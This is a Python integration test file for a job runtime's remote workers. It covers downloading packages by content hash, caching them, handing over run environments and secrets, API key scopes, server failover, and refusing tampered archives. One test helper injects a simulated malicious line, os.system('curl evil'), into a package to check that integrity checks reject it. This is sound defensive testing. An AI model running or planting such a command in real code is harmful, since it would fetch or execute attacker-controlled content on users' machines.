"""Code reaches a worker that shares no files with the server: the run's packages, fetched
once per content hash with a worker key, checked, cached; and the run's environment (issue 23).

The server is the real one (`Runtime`, its API over HTTP from uvicorn) on a workspace
folder, started for remote workers; the worker side is `RemoteCode` on a cache folder of
its own.
"""

from __future__ import annotations

import io
import multiprocessing
import shutil
import threading
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest
import uvicorn

from headwater.app import Runtime
from headwater.core import beacon
from headwater.worker.remote_code import PackageMismatch, RemoteCode, RemoteCodeError
from headwater.workspace.deployments import LOCAL_PACKAGER
from headwater.workspace.packages import hash_dir_name, write_package
from tests.integration.harness import free_port

DEPLOYMENT = """import dlt.hub.run as run

from helpers.greet import greeting


@run.job(execute={"concurrency": None})
def hello():
    print(greeting())
"""


def make_workspace(root: Path) -> Path:
    ws = root / "ws"
    (ws / ".dlt").mkdir(parents=True)
    (ws / "helpers").mkdir()
    (ws / "__deployment__.py").write_text(DEPLOYMENT)
    (ws / "helpers" / "greet.py").write_text('def greeting():\n    return "hello"\n')
    (ws / ".dlt" / ".workspace").write_text("")
    (ws / ".dlt" / "config.toml").write_text('[runtime]\nlog_level = "INFO"\n')
    (ws / ".dlt" / "secrets.toml").write_text('api_token = "from-secrets-toml"\n')
    return ws


def files_of(
    folder: Path, leave_out: Callable[[Path], bool] = lambda _p: False
) -> dict[str, bytes]:
    return {
        str(p.relative_to(folder)): p.read_bytes()
        for p in sorted(folder.rglob("*"))
        if p.is_file() and not leave_out(p.relative_to(folder))
    }


@dataclass
class Served:
    runtime: Runtime
    url: str
    admin: httpx.Client
    downloads: list[str] = field(default_factory=list)
    """The package ids the server packed an archive for or sent one of, in order."""

    @property
    def w(self) -> str:
        return f"/api/v1/workspaces/{self.runtime.ws_id}"

    def key(self, scope: str) -> str:
        body = {"name": f"a {scope} key", "scope": scope}
        resp = self.admin.post(f"{self.w}/api-keys", json=body)
        assert resp.status_code == 200, resp.text
        return str(resp.json()["key"])

    def new_run(self) -> dict[str, Any]:
        jobs = self.admin.get(f"{self.w}/jobs").json()["items"]
        (job,) = [j for j in jobs if j["job_ref"].endswith(".hello")]
        resp = self.admin.post(f"{self.w}/jobs/-trigger", json={"job_ids": [job["id"]]})
        assert resp.status_code == 200, resp.text
        run = self.runtime.store.get_run(resp.json()["succeeded"][0]["job_run_id"])
        assert run is not None
        return run

    def remote(self, cache: Path, scope: str = "worker") -> RemoteCode:
        return RemoteCode(self.url, self.key(scope), cache)


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    ws = make_workspace(tmp_path_factory.mktemp("remote_code"))
    port = free_port()
    runtime = Runtime(ws, port=port, warm=False, watch=False, remote_workers=True)
    # no worker, scheduler or watcher: runs stay pending; the reload `start` would do
    assert runtime.reload_manifest(refresh_launcher=False)["ok"]
    downloads: list[str] = []
    archive = runtime.deployments.package_archive

    def counted(row: dict[str, Any]) -> Path:
        downloads.append(row["id"])
        return archive(row)

    runtime.deployments.package_archive = counted  # type: ignore[method-assign]
    server = uvicorn.Server(
        uvicorn.Config(runtime.api(), host="127.0.0.1", port=port, log_level="warning")
    )
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 30
    while not server.started:
        assert time.monotonic() < deadline, "the API did not start"
        time.sleep(0.02)
    _row, admin_key = runtime.store.create_key(runtime.ws_id, "admin", "admin")
    url = f"http://127.0.0.1:{port}"
    admin = httpx.Client(base_url=url, headers={"Authorization": f"Bearer {admin_key}"})
    try:
        yield Served(runtime, url, admin, downloads)
    finally:
        server.should_exit = True
        thread.join(10)


def test_a_run_created_for_remote_workers_names_the_folders_packages(served: Served) -> None:
    run = served.new_run()
    assert run["code_package_id"] and run["config_package_id"]
    packages = served.runtime.packages
    code, config = packages.get(run["code_package_id"]), packages.get(run["config_package_id"])
    assert code is not None and config is not None
    assert (code["kind"], config["kind"]) == ("deployment", "configuration")
    assert code["created_by"] == config["created_by"] == LOCAL_PACKAGER
    # the runs still start from the folder on this server
    assert served.runtime.deployments.code_dir == served.runtime.workspace
    assert served.runtime.manifest.code_source == "local"


def test_the_run_folder_holds_the_workspace_files_without_headwater_home(
    served: Served, tmp_path: Path
) -> None:
    ws = served.runtime.workspace
    assert (ws / ".headwater" / "headwater.db").is_file()
    with served.remote(tmp_path / "cache") as remote:
        folder = remote.run_folder(served.new_run())
    assert folder.is_relative_to(tmp_path / "cache")
    expected = files_of(
        ws,
        # `.headwater/` never travels; dlt leaves out caches and `.dlt/`'s own marker
        lambda p: p.parts[0] == ".headwater" or "__pycache__" in p.parts or p.name == ".workspace",
    )
    assert files_of(folder) == expected
    assert ".dlt/secrets.toml" in expected and "helpers/greet.py" in expected


def test_a_changed_file_is_a_new_package_and_the_next_run_gets_it(
    served: Served, tmp_path: Path
) -> None:
    ws = served.runtime.workspace
    before = served.new_run()
    helper = ws / "helpers" / "greet.py"
    original = helper.read_text()
    try:
        helper.write_text('def greeting():\n    return "hello again"\n')
        assert served.runtime.reload_manifest(refresh_launcher=False)["ok"]
        after = served.new_run()
        assert after["code_package_id"] != before["code_package_id"]
        assert after["config_package_id"] == before["config_package_id"]
        with served.remote(tmp_path / "cache") as remote:
            old, new = remote.run_folder(before), remote.run_folder(after)
        assert "hello again" in (new / "helpers" / "greet.py").read_text()
        assert "hello again" not in (old / "helpers" / "greet.py").read_text()
    finally:
        helper.write_text(original)
        served.runtime.reload_manifest(refresh_launcher=False)


def test_the_environment_is_the_runs_variables_and_the_secrets_to_mask(
    served: Served, tmp_path: Path
) -> None:
    resp = served.admin.patch(
        f"{served.w}/variables",
        json={
            "upserts": [
                {"name": "API_TOKEN", "type": "secret", "value": "t0ken-value"},
                {"name": "REGION", "type": "plain", "value": "eu"},
            ]
        },
    )
    assert resp.status_code == 200, resp.text
    run = served.new_run()
    with served.remote(tmp_path / "cache") as remote:
        env, secret_values = remote.environment(run)
    assert (env, secret_values) == served.runtime.deployments.run_environment(run)
    assert env["API_TOKEN"] == "t0ken-value" and env["REGION"] == "eu"
    assert secret_values == ["t0ken-value"]
    # and where its dlt reports: this server as the worker reaches it, the run's own secret
    dsn = remote.beacon_dsn(run)
    assert dsn is not None
    parts = urlsplit(dsn)
    assert f"{parts.scheme}://{parts.hostname}:{parts.port}" == served.url
    assert parts.username == beacon.USER and parts.password is not None
    assert beacon.check(served.runtime.beacon_key, run["id"], parts.password)
    assert parts.path == beacon.PATH.format(ws=run["workspace_id"], run=run["id"])
    assert remote.beacon_dsn(run) is None  # handed out once, with the environment


def _run_folder_in_a_process(url: str, key: str, cache: str, run: dict[str, Any]) -> str:
    with RemoteCode(url, key, Path(cache)) as remote:
        return str(remote.run_folder(run))


def test_a_package_is_downloaded_once_by_threads_and_processes_of_a_host(
    served: Served, tmp_path: Path
) -> None:
    # a package of its own, so that no earlier test's download counts
    ws = served.runtime.workspace
    (ws / "helpers" / "extra.py").write_text("EXTRA = 1\n")
    try:
        assert served.runtime.reload_manifest(refresh_launcher=False)["ok"]
        run = served.new_run()
    finally:
        (ws / "helpers" / "extra.py").unlink()
        served.runtime.reload_manifest(refresh_launcher=False)
    key, cache = served.key("worker"), tmp_path / "cache"
    before = len(served.downloads)
    spawn = multiprocessing.get_context("spawn")
    with spawn.Pool(3) as pool, ThreadPoolExecutor(8) as threads:
        in_processes = pool.starmap_async(
            _run_folder_in_a_process, [(served.url, key, str(cache), run)] * 3
        )
        with RemoteCode(served.url, key, cache) as remote:
            in_threads = list(threads.map(lambda _i: remote.run_folder(run), range(8)))
        folders = {str(f) for f in in_threads} | set(in_processes.get(timeout=120))
    assert len(folders) == 1
    downloads = served.downloads[before:]
    assert sorted(downloads) == sorted([run["code_package_id"], run["config_package_id"]])
    assert (Path(folders.pop()) / "helpers" / "extra.py").is_file()
    assert not [p for p in cache.iterdir() if p.name.startswith(".")]  # no staging left
    # a new worker process finds it cached: no request at all
    with RemoteCode("http://127.0.0.1:9", key, cache) as offline:
        assert offline.run_folder(run).is_dir()


def tamper_with_archive(served: Served, package_id: str, how: str) -> None:
    """Change a package's archive where the server keeps it, as a disk fault or an intruder
    would: `swap` it for another valid package, or `edit` one file and keep its manifest."""
    row = served.runtime.packages.get(package_id)
    assert row is not None
    served.runtime.deployments.package_archive(row)
    home = served.runtime.home / "packages" / row["kind"]
    archive = home / (hash_dir_name(row["content_hash"]) + ".tar.gz")
    if how == "swap":
        other = home.parent / "configuration"
        (config_archive,) = [p for p in other.iterdir() if p.name.endswith(".tar.gz")][:1]
        shutil.copy(config_archive, archive)
        return
    changed = archive.parent / "changed"
    shutil.copytree(home / hash_dir_name(row["content_hash"]), changed)
    (changed / "helpers" / "greet.py").write_text("import os; os.system('curl evil')\n")
    out = io.BytesIO()
    write_package(changed, row["files"], out)
    shutil.rmtree(changed)
    archive.write_bytes(out.getvalue())


@pytest.mark.parametrize("how", ["swap", "edit"])
def test_a_tampered_package_is_refused_and_nothing_is_cached(
    served: Served, tmp_path: Path, how: str
) -> None:
    ws = served.runtime.workspace
    (ws / "helpers" / f"for_{how}.py").write_text("")
    try:
        assert served.runtime.reload_manifest(refresh_launcher=False)["ok"]
        run = served.new_run()
    finally:
        (ws / "helpers" / f"for_{how}.py").unlink()
        served.runtime.reload_manifest(refresh_launcher=False)
    with served.remote(tmp_path / "warm") as remote:
        remote.run_folder(run)  # the configuration archive exists to swap in
    tamper_with_archive(served, run["code_package_id"], how)
    cache = tmp_path / "cache"
    with served.remote(cache) as remote, pytest.raises(PackageMismatch) as refused:
        remote.run_folder(run)
    message = str(refused.value)
    assert served.url in message and f"deployment package {run['code_package_id']}" in message
    assert not (cache / "deployment").exists() or not list((cache / "deployment").iterdir())
    assert not (cache / "ids" / run["code_package_id"]).exists()
    assert not (cache / "run").exists()
    assert not [p for p in cache.iterdir() if p.name.startswith(".download-")]


@pytest.mark.parametrize("scope", ["read", "trigger"])
def test_a_key_of_another_scope_gets_no_code_and_no_environment(
    served: Served, tmp_path: Path, scope: str
) -> None:
    run = served.new_run()
    with served.remote(tmp_path / "cache", scope) as remote:
        with pytest.raises(RemoteCodeError) as refused:
            remote.run_folder(run)
        message = str(refused.value)
        assert "403" in message and served.url in message
        assert f"package {run['code_package_id']}" in message
        with pytest.raises(RemoteCodeError, match="403"):
            remote.environment(run)
    assert not (tmp_path / "cache" / "deployment").exists()


def test_an_unknown_package_is_a_404_naming_it(served: Served, tmp_path: Path) -> None:
    run = {**served.new_run(), "code_package_id": "00000000-0000-0000-0000-000000000000"}
    with served.remote(tmp_path / "cache") as remote, pytest.raises(RemoteCodeError) as refused:
        remote.run_folder(run)
    assert "404" in str(refused.value) and "00000000-0000" in str(refused.value)


def test_a_restarted_server_takes_its_folder_again_not_the_packages_it_made(
    tmp_path: Path,
) -> None:
    ws = make_workspace(tmp_path)
    first = Runtime(ws, warm=False, watch=False, remote_workers=True)
    assert first.reload_manifest(refresh_launcher=False)["ok"]
    latest = first.store.latest_manifest(first.ws_id)
    assert latest is not None and latest["code_package_id"]
    # the same store again, now without remote workers: the folder is the code (`start`
    # reloads it), and the runs it creates name no packages
    again = Runtime(ws, warm=False, watch=False)
    assert not again.deployments.remote and again.deployments.code_dir == ws.resolve()
    assert again.reload_manifest(refresh_launcher=False)["ok"]
    latest = again.store.latest_manifest(again.ws_id)
    assert latest is not None and latest["code_package_id"] is None


def test_a_run_without_packages_is_refused_naming_the_server(tmp_path: Path) -> None:
    remote = RemoteCode("http://127.0.0.1:9", "dlt_sa_x", tmp_path)
    run = {"id": "r1", "workspace_id": "w", "code_package_id": None}
    with pytest.raises(RemoteCodeError, match=r"run r1 of http://127\.0\.0\.1:9 names no code"):
        remote.run_folder(run)


def test_a_worker_asks_the_next_server_while_one_is_down(served: Served, tmp_path: Path) -> None:
    run = served.new_run()
    down = f"http://127.0.0.1:{free_port()}"  # nothing listens there
    key = served.key("worker")
    with RemoteCode(f"{down}, {served.url}", key, tmp_path / "cache") as remote:
        folder = remote.run_folder(run)
        assert (folder / "__deployment__.py").is_file()
        # the one that answered is asked first from now on, and the beacon points at it
        assert remote.server_url == served.url
        env, _secrets = remote.environment(run)
        assert env == served.runtime.deployments.run_environment(run)[0]
        assert (remote.beacon_dsn(run) or "").split("@")[1].startswith(served.url[7:])
    # none answers: the error names each server
    other = f"http://127.0.0.1:{free_port()}"
    with RemoteCode(f"{down},{other}", key, tmp_path / "c2", patience=0) as remote:
        with pytest.raises(RemoteCodeError, match="no server answered") as refused:
            remote.environment(run)
    assert down in str(refused.value)
    # a refusal is an answer: the next server is not asked for what this one refused
    with RemoteCode(f"{served.url},{down}", served.key("read"), tmp_path / "c3") as remote:
        with pytest.raises(RemoteCodeError, match="403"):
            remote.run_folder(run)


def test_a_relative_cache_folder_gives_absolute_run_folders(
    served: Served, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`headwater worker` without `--home` caches under `.headwater-worker/` of the current
    folder: the launcher starts in the run folder from elsewhere, so it must be absolute."""
    monkeypatch.chdir(tmp_path)
    with served.remote(Path(".headwater-worker") / "cache") as remote:
        folder = remote.run_folder(served.new_run())
    assert folder.is_absolute() and folder.is_relative_to(tmp_path)
    assert (folder / "__deployment__.py").is_file()


def test_a_worker_waits_for_a_restarting_server_instead_of_failing_the_run(
    served: Served, tmp_path: Path
) -> None:
    """The run was dispatched just before its server went down for a restart: the worker
    asks again until the server answers (within its patience), and the run goes on."""
    run = served.new_run()
    port = free_port()
    later = uvicorn.Server(
        uvicorn.Config(served.runtime.api(), host="127.0.0.1", port=port, log_level="warning")
    )
    starter = threading.Timer(1.5, later.run)  # the server is back in 1.5 s
    starter.start()
    try:
        with RemoteCode(f"http://127.0.0.1:{port}", served.key("worker"), tmp_path) as remote:
            asked = time.monotonic()
            folder = remote.run_folder(run)
            assert time.monotonic() - asked >= 1.0
            assert (folder / "__deployment__.py").is_file()
        # past its patience the worker gives the run up, naming the server
        down = f"http://127.0.0.1:{free_port()}"
        with RemoteCode(down, served.key("worker"), tmp_path / "c2", patience=1.0) as remote:
            asked = time.monotonic()
            with pytest.raises(RemoteCodeError, match=down.replace(".", r"\.")):
                remote.environment(run)
            assert time.monotonic() - asked >= 1.0
    finally:
        later.should_exit = True
        starter.join(10)
